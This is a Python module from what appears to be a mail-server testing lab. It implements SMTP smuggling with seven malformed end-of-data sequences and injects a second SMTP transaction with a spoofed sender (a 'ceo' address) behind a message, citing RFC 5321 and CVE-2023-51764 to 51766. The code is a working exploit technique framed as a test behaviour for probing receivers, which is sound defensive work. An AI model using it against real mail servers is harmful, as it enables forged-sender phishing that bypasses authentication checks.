"""A message within a message: SMTP smuggling."""

from __future__ import annotations

from enum import StrEnum

from lab.appliance.behaviours.behaviour import Behaviour, Counts, Family
from lab.appliance.conditions import Phase
from lab.appliance.settings import setting
from lab.data import dataclass


class Variant(StrEnum):
    """What is not CRLF . CRLF, and some receiver takes for it."""

    LF_DOT_LF = "lf-dot-lf"
    LF_DOT_CRLF = "lf-dot-crlf"
    CRLF_DOT_LF = "crlf-dot-lf"
    CR_DOT_CR = "cr-dot-cr"
    CR_DOT_CRLF = "cr-dot-crlf"
    CRLF_DOT_CR = "crlf-dot-cr"
    NUL = "nul"


SEQUENCES = {
    Variant.LF_DOT_LF: b"\n.\n",
    Variant.LF_DOT_CRLF: b"\n.\r\n",
    Variant.CRLF_DOT_LF: b"\r\n.\n",
    Variant.CR_DOT_CR: b"\r.\r",
    Variant.CR_DOT_CRLF: b"\r.\r\n",
    Variant.CRLF_DOT_CR: b"\r\n.\r",
    Variant.NUL: b"\r\n\0.\r\n",
}


class How(StrEnum):
    """Where the sequence goes."""

    INSERT = "insert"  # within the message, with a second transaction behind it
    END = "end"  # in place of the true end: the receiver goes on waiting if it is a good one


class Smuggle(Behaviour):
    """Put something that is not the end of a message where a careless receiver sees the end: a second transaction behind it
    within the message, or nothing in place of the true end. A good receiver takes one message with bare line ends in it, or
    refuses it (RFC 5321 section 2.3.8). By BDAT it is bait for whoever goes on by DATA: counted, the receiver itself sees no
    end in it (RFC 3030 section 2), and `how: end` only puts the sequence behind the content.
    """

    name = "smuggle"
    family = Family.CONTENT
    counts = Counts.MESSAGES
    phases = frozenset({Phase.DATA})
    reads_content = True
    source = "RFC 5321 sections 2.3.8 and 4.1.1.4; CVE-2023-51764, CVE-2023-51765, CVE-2023-51766"
    example = "- resign: {certificate: exchange}\n- smuggle: {variant: lf-dot-lf, sender: ceo@contoso.test, recipient: alice@contoso.test}"

    @dataclass(frozen=True, slots=True)
    class Settings:
        """What `smuggle` takes."""

        variant: Variant = setting(Variant.LF_DOT_LF, "which sequence")
        how: How = setting(How.INSERT, "where it goes")
        sender: str = setting("ceo@contoso.test", "MAIL FROM of the smuggled message")
        recipient: str = setting("alice@contoso.test", "RCPT TO of the smuggled message")
        text: str = setting("Smuggled", "its subject and body")

    settings: Settings

    def on_dotted(self, content: bytes) -> bytes:
        return self._smuggled(content.removesuffix(b".\r\n"), end=b".\r\n")

    def on_counted(self, content: bytes) -> bytes:
        return self._smuggled(content, end=b"")

    def _smuggled(self, body: bytes, *, end: bytes) -> bytes:
        settings, sequence = self.settings, SEQUENCES[self.settings.variant]
        if settings.how is How.END:
            return body.removesuffix(b"\r\n") + sequence
        smuggled = (
            f"MAIL FROM:<{settings.sender}>\r\nRCPT TO:<{settings.recipient}>\r\nDATA\r\n"
            f"From: <{settings.sender}>\r\nTo: <{settings.recipient}>\r\nSubject: {settings.text}\r\n\r\n{settings.text}\r\n"
        )
        return body.removesuffix(b"\r\n") + sequence + smuggled.encode("utf-8", "surrogateescape") + end
